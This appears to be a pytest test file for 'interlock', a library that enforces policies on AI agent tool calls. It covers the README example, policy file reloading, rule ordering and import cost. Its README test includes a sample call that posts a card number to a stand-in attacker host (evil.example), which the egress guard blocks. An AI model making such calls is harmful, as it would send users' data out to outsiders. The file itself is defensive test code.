@@ -1,0 +1,171 @@
+"""The face as users meet it: the README's lines, `install` with each kind of policy, and what importing costs."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+import interlock
+from interlock import Blocked, Decision, NotApproved, SensorEvent, enforce_tool_call, install
+from interlock.base.errors import InterlockError
+from interlock.engine import ambient
+from interlock.engine.policy.model import Policy
+from interlock.engine.sinks import InMemorySink
+
+
+@pytest.fixture(autouse=True)
+def _nothing_installed() -> Iterator[None]:
+    yield
+    ambient.install(None)
+
+
+README = """
+import interlock
+from interlock import Blocked, enforce_tool_call
+from interlock.detectors import pii_redaction_guard, network_egress_guard
+interlock.install(rules=[pii_redaction_guard(), network_egress_guard(allowed_hosts=["api.internal"])])
+enforce_tool_call("http_post", {"url": "https://api.internal/notes", "body": "card 4111 1111 1111 1111"})
+# -> {'url': 'https://api.internal/notes', 'body': 'card [REDACTED CREDIT_CARD]'}
+enforce_tool_call("http_post", {"url": "https://evil.example/collect", "body": "card 4111 1111 1111 1111"})
+# -> raises Blocked: egress to 'evil.example' is not on the destination allowlist
+"""
+
+
+def test_the_lines_of_the_readme_do_what_they_say() -> None:
+    *setup, first, told, second, raised = README.strip().splitlines()
+    names: dict[str, object] = {}
+    exec("\n".join(setup), names)
+    assert eval(first, names) == eval(told.removeprefix("# -> "))
+    with pytest.raises(Blocked) as caught:
+        eval(second, names)
+    assert raised == f"# -> raises {type(caught.value).__name__}: {caught.value}"
+
+
+def test_the_order_of_the_two_rules_does_not_matter() -> None:
+    swapped = README.replace("[pii_redaction_guard(), ", "[").replace(
+        '["api.internal"])]', '["api.internal"]), pii_redaction_guard()]'
+    )
+    assert swapped.count("pii_redaction_guard()") == 1
+    *setup, first, told, _, _ = swapped.strip().splitlines()
+    names: dict[str, object] = {}
+    exec("\n".join(setup), names)
+    assert eval(first, names) == eval(told.removeprefix("# -> "))
+
+
+def test_the_face_names_just_what_it_has() -> None:
+    promised = """Blocked Decision FileSink NotApproved SensorEvent Verdict __version__ deny_when enforce_tool_call
+    enforce_tool_result guard install monitor span"""
+    assert " ".join(interlock.__all__) == " ".join(promised.split())
+    assert all(hasattr(interlock, name) for name in interlock.__all__)
+
+
+def policy_file(path: Path, *rules: dict[str, object], extends: tuple[str, ...] = ()) -> Path:
+    body: dict[str, object] = {"format": "interlock-policy", "v": 1, "name": path.stem, "rules": list(rules)}
+    if extends:
+        body["extends"] = list(extends)
+    path.write_text(json.dumps(body))
+    return path
+
+
+def rule(action: str, verdict: str = "block", reason: str = "not here") -> dict[str, object]:
+    event = {"action": action, "args": {}}
+    return {
+        "id": f"no.{action.lower()}",
+        "when": {"action": action},
+        "verdict": verdict,
+        "reason": reason,
+        "examples": {"fires": [event], "passes": [{**event, "action": "Other"}]},
+    }
+
+
+def test_a_policy_file_guards_and_its_change_is_in_force_from_the_next_call_on(tmp_path: Path) -> None:
+    path = policy_file(tmp_path / "mine.json", rule("Write"))
+    sink = InMemorySink()
+    install(policy=path, sink=sink)
+    with pytest.raises(Blocked, match="not here") as caught:
+        enforce_tool_call("Write", {})
+    assert caught.value.policy_id == "no.write"
+    policy_file(path, rule("Bash", reason="changed"))
+    assert enforce_tool_call("Write", {}) == {}
+    with pytest.raises(Blocked, match="changed"):
+        enforce_tool_call("Bash", {})
+    path.write_text("{ broken")
+    with pytest.raises(Blocked, match="changed"):
+        enforce_tool_call("Bash", {})
+    assert ambient.installed().live.trouble is not None
+    assert [r.policy_epoch for r in sink.receipts] == [1, 2, 2, 2]
+
+
+def test_files_that_a_policy_extends_are_followed_too(tmp_path: Path) -> None:
+    policy_file(tmp_path / "base.json", rule("Write"))
+    install(policy=policy_file(tmp_path / "mine.json", rule("Edit"), extends=("base.json",)))
+    for action in ("Write", "Edit"):
+        with pytest.raises(Blocked):
+            enforce_tool_call(action, {})
+    policy_file(tmp_path / "base.json", rule("Read"))
+    assert enforce_tool_call("Write", {}) == {}
+    with pytest.raises(Blocked):
+        enforce_tool_call("Read", {})
+
+
+def test_the_policys_rules_run_before_those_of_code(tmp_path: Path) -> None:
+    seen: list[str] = []
+
+    def mine(event: SensorEvent) -> Decision | None:
+        seen.append(event.action)
+        return Decision.escalate("ask me")
+
+    install(policy=policy_file(tmp_path / "mine.json", rule("Write")), rules=[mine])
+    with pytest.raises(Blocked, match="not here"):
+        enforce_tool_call("Write", {})
+    assert seen == []
+    with pytest.raises(NotApproved, match="ask me"):
+        enforce_tool_call("Read", {})
+
+
+def test_a_policy_that_is_made_already_can_be_installed() -> None:
+    install(policy=Policy((), "d" * 64))
+    assert ambient.installed().live.current.digest == "d" * 64
+
+
+@pytest.mark.parametrize("name", ["builtin:nothing", "mesh:", "mesh:pack", "mesh:@stable", "missing.json"])
+def test_a_policy_that_is_not_there_is_one_clear_line(name: str, tmp_path: Path) -> None:
+    with pytest.raises(InterlockError) as caught:
+        install(policy=str(tmp_path / name) if name.endswith(".json") else name)
+    assert "\n" not in str(caught.value)
+    with pytest.raises(RuntimeError):
+        ambient.installed()
+
+
+def seconds(code: str) -> float:
+    """The best of several runs of a fresh interpreter."""
+    times = []
+    for _ in range(7):
+        started = time.perf_counter()
+        subprocess.run([sys.executable, "-I", "-c", code], check=True)
+        times.append(time.perf_counter() - started)
+    return min(times)
+
+
+def test_importing_costs_less_than_60_ms_over_bare_python() -> None:
+    path = f"import sys; sys.path.insert(0, {str(Path(interlock.__file__).parents[1])!r}); "
+    assert seconds(path + "import interlock") - seconds(path) < 0.060
+
+
+def test_importing_needs_the_standard_library_only_and_no_other_room() -> None:
+    code = (
+        f"import sys; sys.path.insert(0, {str(Path(interlock.__file__).parents[1])!r}); before = set(sys.modules)\n"
+        "import interlock, interlock.detectors\n"
+        "tops = {m.split('.')[0] for m in set(sys.modules) - before}\n"
+        "rooms = {m.split('.')[1] for m in sys.modules if m.startswith('interlock.')}\n"
+        "assert tops <= set(sys.stdlib_module_names) | {'interlock'}, tops\n"
+        "assert not rooms & {'node', 'dap', 'commons', 'transparency', 'native'}, rooms\n"
+        "assert 'asyncio' not in sys.modules\n"
+    )
+    subprocess.run([sys.executable, "-I", "-c", code], check=True)
